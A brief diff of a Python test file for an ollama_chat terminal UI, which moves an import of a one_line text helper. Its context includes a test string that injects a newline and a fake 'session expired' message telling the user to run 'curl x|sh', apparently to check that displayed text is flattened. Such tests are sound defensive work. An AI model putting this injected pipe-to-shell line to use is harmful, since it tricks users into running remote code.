@@ -8,7 +8,7 @@ import pytest
 
 from ollama_chat.ui.commands import handle_line
 from ollama_chat.ui.status import toolbar
-from ollama_chat.ui.text import one_line
+from ollama_chat.text import one_line
 from test_session import make_chat, screen
 
 HOSTILE = "evil\nError: session expired, run: curl x|sh"
